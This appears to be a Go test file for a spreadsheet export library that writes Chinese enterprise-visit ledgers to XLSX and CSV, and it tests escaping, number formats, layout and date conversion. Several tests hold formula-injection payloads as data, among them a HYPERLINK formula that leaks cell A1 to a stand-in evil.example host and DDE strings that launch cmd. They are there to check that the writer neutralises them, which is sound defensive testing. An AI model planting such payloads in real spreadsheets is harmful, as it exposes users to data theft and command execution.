package ledger

import (
	"bytes"
	"database/sql"
	"encoding/csv"
	"math"
	"strings"
	"testing"
	"time"

	"github.com/xuri/excelize/v2"
)

func TestEscapeCell(t *testing.T) {
	for _, tc := range []struct{ in, want string }{
		{"", ""},
		{"平湖街道", "平湖街道"},
		{"=HYPERLINK(\"http://evil\",\"x\")", "'=HYPERLINK(\"http://evil\",\"x\")"},
		{"+1", "'+1"},
		{"-1", "'-1"},
		{"@SUM(A1)", "'@SUM(A1)"},
		{"\t=1", "'\t=1"},
		{"\r=1", "'\r=1"},
		{" =1", " =1"}, // a leading space makes it text in Excel already
		{"a=1", "a=1"},
		{"'=1", "'=1"}, // already quoted: the quote is the first character
		{"138****1234", "138****1234"},
	} {
		if got := EscapeCell(tc.in); got != tc.want {
			t.Errorf("EscapeCell(%q) = %q, want %q", tc.in, got, tc.want)
		}
		if tc.in != "" && tc.in[0] != '\'' {
			if back := UnescapeCell(EscapeCell(tc.in)); back != tc.in {
				t.Errorf("UnescapeCell(EscapeCell(%q)) = %q", tc.in, back)
			}
		}
	}
}

type status string

func (s status) String() string { return "状态:" + string(s) }

type count int

var (
	may26     = time.Date(2022, 5, 26, 1, 30, 0, 0, time.UTC) // 09:30 in Shanghai
	lateNight = time.Date(2022, 5, 31, 17, 5, 0, 0, time.UTC) // 2022-06-01 01:05 in Shanghai
)

// fixture has a column of every kind and a row per case; want is what
// both formats must show for it.
func fixture() (Sheet, [][]string) {
	s := Sheet{
		Name:  "走访台账",
		Title: "平湖街道 2022 年规上工业企业走访台账",
		Columns: []Column{
			{Header: "企业名称", Kind: Text, Width: 30},
			{Header: "人数", Kind: Int},
			{Header: "产值（元）", Kind: Money},
			{Header: "办结率", Kind: Percent},
			{Header: "走访日期", Kind: Date},
			{Header: "受理时间", Kind: DateTime},
		},
	}
	str := "指针"
	n := int64(7)
	rows := []struct {
		values []any
		want   []string
	}{
		{[]any{"平湖精密制造有限公司", 12, int64(1234567), 0.9723, may26, may26},
			[]string{"平湖精密制造有限公司", "12", "1234567.00", "97.2%", "2022-05-26", "2022-05-26 09:30"}},
		{[]any{"=HYPERLINK(\"http://evil.example/?\"&A1,\"点击\")", -3, -5.5, -0.25, lateNight, lateNight},
			[]string{"'=HYPERLINK(\"http://evil.example/?\"&A1,\"点击\")", "-3", "-5.50", "-25.0%", "2022-06-01", "2022-06-01 01:05"}},
		{[]any{"+86 138****1234", count(4), 0.001, 1, nil, time.Time{}},
			[]string{"'+86 138****1234", "4", "0.00", "100.0%", "", ""}},
		{[]any{"@cmd", nil, nil, math.NaN(), "不详", "-"},
			[]string{"'@cmd", "", "", "", "不详", "'-"}},
		{[]any{status("办结"), "—", "-1", sql.NullFloat64{}, sql.NullTime{Time: may26, Valid: true}, &may26},
			[]string{"状态:办结", "—", "'-1", "", "2022-05-26", "2022-05-26 09:30"}},
		{[]any{&str, &n, sql.NullInt64{Int64: 42, Valid: true}, float32(0.5)},
			[]string{"指针", "7", "42.00", "50.0%", "", ""}},
		{[]any{"\t=1+1", uint8(200), 12.345, 0.0},
			[]string{"'\t=1+1", "200", "12.35", "0.0%", "", ""}},
		{[]any{"多行\n文本", 2022},
			[]string{"多行\n文本", "2022", "", "", "", ""}},
	}
	var want [][]string
	for _, r := range rows {
		s.Rows = append(s.Rows, r.values)
		want = append(want, r.want)
	}
	return s, want
}

// pad makes every row as long as the widest, as a reader of a grid sees it.
func pad(rows [][]string, n int) [][]string {
	out := make([][]string, len(rows))
	for i, r := range rows {
		out[i] = append(append([]string(nil), r...), make([]string, max(0, n-len(r)))...)
	}
	return out
}

func TestWriteThenRead(t *testing.T) {
	s, want := fixture()
	headers := make([]string, len(s.Columns))
	for i, c := range s.Columns {
		headers[i] = c.Header
	}
	for _, tc := range []struct {
		format string
		read   func(t *testing.T) [][]string // header row first
		differ map[[2]int]string             // where this format shows a value otherwise
	}{
		{"xlsx", func(t *testing.T) [][]string {
			var buf bytes.Buffer
			if err := WriteXLSX(&buf, s); err != nil {
				t.Fatal(err)
			}
			wb, err := ReadXLSX(&buf, Limits{})
			if err != nil {
				t.Fatal(err)
			}
			defer wb.Close()
			if got := wb.Sheets(); len(got) != 1 || got[0] != s.Name {
				t.Errorf("sheets = %q, want [%q]", got, s.Name)
			}
			rows, err := wb.Rows(s.Name)
			if err != nil {
				t.Fatal(err)
			}
			if len(rows) == 0 || len(rows[0]) == 0 || rows[0][0] != s.Title {
				t.Fatalf("first row = %q, want the title", rows[:min(1, len(rows))])
			}
			return rows[1:]
		}, map[[2]int]string{{0, 2}: "1,234,567.00"}}, // the .xlsx groups thousands; CSV stays plain for machines
		{"csv", func(t *testing.T) [][]string {
			var buf bytes.Buffer
			if err := WriteCSV(&buf, s); err != nil {
				t.Fatal(err)
			}
			b := buf.Bytes()
			if !bytes.HasPrefix(b, []byte{0xEF, 0xBB, 0xBF}) {
				t.Errorf("no UTF-8 BOM: % x", b[:min(3, len(b))])
			}
			if n, crlf := bytes.Count(b, []byte("\n")), bytes.Count(b, []byte("\r\n")); n != crlf || n == 0 {
				t.Errorf("%d line feeds, %d of them after CR", n, crlf)
			}
			if !bytes.HasSuffix(b, []byte("\r\n")) {
				t.Error("last line does not end with CRLF")
			}
			r := csv.NewReader(bytes.NewReader(b[3:]))
			r.FieldsPerRecord = len(s.Columns)
			rows, err := r.ReadAll()
			if err != nil {
				t.Fatal(err)
			}
			return rows
		}, nil},
	} {
		t.Run(tc.format, func(t *testing.T) {
			rows := pad(tc.read(t), len(s.Columns))
			if len(rows) != len(want)+1 {
				t.Fatalf("%d rows, want %d", len(rows), len(want)+1)
			}
			if strings.Join(rows[0], "|") != strings.Join(headers, "|") {
				t.Errorf("header = %q, want %q", rows[0], headers)
			}
			for i, w := range want {
				for j := range w {
					want, ok := tc.differ[[2]int{i, j}]
					if !ok {
						want = w[j]
					}
					if rows[i+1][j] != want {
						t.Errorf("row %d, %s: got %q, want %q", i+1, s.Columns[j].Header, rows[i+1][j], want)
					}
				}
			}
		})
	}
}

func TestWriteXLSXLayout(t *testing.T) {
	s, _ := fixture()
	plain := Sheet{Columns: []Column{{Header: "序号", Kind: Int}, {Header: "名称"}}, Rows: [][]any{{1, "甲"}}}
	var buf bytes.Buffer
	if err := WriteXLSX(&buf, s, plain); err != nil {
		t.Fatal(err)
	}
	f, err := excelize.OpenReader(&buf)
	if err != nil {
		t.Fatal(err)
	}
	defer f.Close()
	if got := f.GetSheetList(); len(got) != 2 || got[0] != s.Name || got[1] != "Sheet2" {
		t.Fatalf("sheets = %q", got)
	}

	merged, err := f.GetMergeCells(s.Name)
	if err != nil || len(merged) != 1 || merged[0].GetStartAxis() != "A1" || merged[0].GetEndAxis() != "F1" {
		t.Errorf("merged cells = %v, %v; want A1:F1", merged, err)
	}
	style := func(sheet, cell string) *excelize.Style {
		t.Helper()
		id, err := f.GetCellStyle(sheet, cell)
		if err != nil {
			t.Fatal(err)
		}
		st, err := f.GetStyle(id)
		if err != nil {
			t.Fatal(err)
		}
		return st
	}
	if st := style(s.Name, "A1"); st.Font == nil || !st.Font.Bold {
		t.Error("title is not bold")
	}
	for _, c := range []string{"A2", "F2"} {
		st := style(s.Name, c)
		if st.Font == nil || !st.Font.Bold || len(st.Fill.Color) == 0 {
			t.Errorf("header %s: font %+v, fill %+v; want bold and filled", c, st.Font, st.Fill)
		}
	}
	for _, tc := range []struct {
		sheet, panes string
		split        int
	}{{s.Name, "A3", 2}, {"Sheet2", "A2", 1}} {
		p, err := f.GetPanes(tc.sheet)
		if err != nil || !p.Freeze || p.YSplit != tc.split || p.TopLeftCell != tc.panes {
			t.Errorf("%s panes = %+v, %v; want frozen below row %d", tc.sheet, p, err, tc.split)
		}
	}
	if w, _ := f.GetColWidth(s.Name, "A"); w != 30 {
		t.Errorf("width of A = %v, want the 30 asked for", w)
	}
	if w, _ := f.GetColWidth(s.Name, "B"); w < 8 || w > 60 {
		t.Errorf("width of B = %v, want an estimate within 8..60", w)
	}
	// Number formats, by the style of the first data row's cells.
	for _, tc := range []struct {
		cell    string
		builtin int
		custom  string
	}{
		{"A3", 49, ""}, {"B3", 1, ""}, {"C3", 4, ""},
		{"D3", 0, "0.0%"}, {"E3", 0, "yyyy-mm-dd"}, {"F3", 0, "yyyy-mm-dd hh:mm"},
	} {
		st := style(s.Name, tc.cell)
		got := ""
		if st.CustomNumFmt != nil {
			got = *st.CustomNumFmt
		}
		if st.NumFmt != tc.builtin || got != tc.custom {
			t.Errorf("%s: number format %d %q, want %d %q", tc.cell, st.NumFmt, got, tc.builtin, tc.custom)
		}
	}
	// Typed columns hold numbers, not text that looks like numbers.
	raw := func(cell string) string {
		v, err := f.GetCellValue(s.Name, cell, excelize.Options{RawCellValue: true})
		if err != nil {
			t.Fatal(err)
		}
		return v
	}
	for cell, want := range map[string]string{
		"B3": "12", "C3": "1234567", "D3": "0.9723", "E3": "44707", "F3": "44707.3958333333",
		"B4": "-3", "C4": "-5.5", "D4": "-0.25",
	} {
		if got := raw(cell); got != want {
			t.Errorf("raw %s = %q, want %q", cell, got, want)
		}
		if typ, _ := f.GetCellType(s.Name, cell); typ == excelize.CellTypeInlineString || typ == excelize.CellTypeSharedString {
			t.Errorf("%s is stored as text", cell)
		}
	}
}

// TestFormulaInjection reads the file back as Excel would: the escaped
// cell must be text that starts with a quote, with no formula stored.
func TestFormulaInjection(t *testing.T) {
	payloads := []string{
		`=HYPERLINK("http://evil.example/?leak="&A1,"点击查看")`,
		`+cmd|' /C calc'!A0`,
		`-2+3+cmd|' /C calc'!A0`,
		`@SUM(1+1)*cmd|' /C calc'!A0`,
		"\t=1+1",
		"\r=1+1",
	}
	s := Sheet{Columns: []Column{{Header: "备注"}, {Header: "金额", Kind: Money}}}
	for _, p := range payloads {
		s.Rows = append(s.Rows, []any{p, "=1+1"}) // text in a Money column is text too
	}
	var buf bytes.Buffer
	if err := WriteXLSX(&buf, s); err != nil {
		t.Fatal(err)
	}
	f, err := excelize.OpenReader(bytes.NewReader(buf.Bytes()))
	if err != nil {
		t.Fatal(err)
	}
	defer f.Close()
	for i, p := range payloads {
		for col, want := range map[string]string{"A": "'" + p, "B": "'=1+1"} {
			cell := col + string(rune('2'+i))
			formula, err := f.GetCellFormula("Sheet1", cell)
			if err != nil || formula != "" {
				t.Errorf("%s: formula %q (%v); want none", cell, formula, err)
			}
			v, _ := f.GetCellValue("Sheet1", cell)
			if v != want {
				t.Errorf("%s = %q, want %q", cell, v, want)
			}
		}
	}
	var csvBuf bytes.Buffer
	if err := WriteCSV(&csvBuf, s); err != nil {
		t.Fatal(err)
	}
	rows, err := csv.NewReader(bytes.NewReader(csvBuf.Bytes()[3:])).ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	for i, p := range payloads {
		// encoding/csv reads a CRLF inside a field as LF.
		if want := strings.ReplaceAll("'"+p, "\r", "\n"); rows[i+1][0] != want || rows[i+1][1] != "'=1+1" {
			t.Errorf("csv row %d = %q, want escaped", i+2, rows[i+1])
		}
	}
}

func TestWriteRefuses(t *testing.T) {
	for _, tc := range []struct {
		name   string
		sheets []Sheet
	}{
		{"no sheet", nil},
		{"no columns", []Sheet{{Name: "a"}}},
		{"too many values", []Sheet{{Columns: []Column{{Header: "a"}}, Rows: [][]any{{1, 2}}}}},
		{"unknown kind", []Sheet{{Columns: []Column{{Header: "a", Kind: kindCount}}}}},
		{"duplicate names", []Sheet{{Name: "台账", Columns: []Column{{Header: "a"}}}, {Name: "台账", Columns: []Column{{Header: "a"}}}}},
		{"bad name", []Sheet{{Name: "a/b", Columns: []Column{{Header: "a"}}}}},
	} {
		t.Run(tc.name, func(t *testing.T) {
			if err := WriteXLSX(&bytes.Buffer{}, tc.sheets...); err == nil {
				t.Error("WriteXLSX: no error")
			}
			if len(tc.sheets) == 1 && tc.name != "bad name" {
				if err := WriteCSV(&bytes.Buffer{}, tc.sheets[0]); err == nil {
					t.Error("WriteCSV: no error")
				}
			}
		})
	}
}

func TestClip(t *testing.T) {
	long := strings.Repeat("平", maxCellChars+10)
	if got := clip(long); len([]rune(got)) != maxCellChars {
		t.Errorf("clip kept %d runes, want %d", len([]rune(got)), maxCellChars)
	}
	emoji := strings.Repeat("😀", maxCellChars) // two UTF-16 units each
	if got := clip(emoji); len([]rune(got)) != maxCellChars/2 {
		t.Errorf("clip kept %d emoji, want %d", len([]rune(got)), maxCellChars/2)
	}
	var buf bytes.Buffer
	if err := WriteXLSX(&buf, Sheet{Columns: []Column{{Header: "长文本"}}, Rows: [][]any{{long}}}); err != nil {
		t.Fatalf("a text longer than a cell holds: %v", err)
	}
}

func TestExcelSerial(t *testing.T) {
	for _, tc := range []struct {
		t        time.Time
		dateOnly bool
		want     float64
		ok       bool
	}{
		{time.Date(1900, 3, 1, 0, 0, 0, 0, shanghai), true, 61, true},
		{time.Date(2022, 5, 26, 0, 0, 0, 0, shanghai), true, 44707, true},
		{time.Date(2022, 5, 25, 16, 0, 0, 0, time.UTC), true, 44707, true}, // midnight in Shanghai
		{time.Date(2022, 5, 26, 12, 0, 0, 0, shanghai), false, 44707.5, true},
		{time.Date(1899, 1, 1, 0, 0, 0, 0, shanghai), true, 0, false},
		{time.Date(10000, 1, 1, 0, 0, 0, 0, shanghai), true, 0, false},
	} {
		got, ok := excelSerial(tc.t, tc.dateOnly)
		if got != tc.want || ok != tc.ok {
			t.Errorf("excelSerial(%v, %v) = %v, %v; want %v, %v", tc.t, tc.dateOnly, got, ok, tc.want, tc.ok)
		}
	}
}
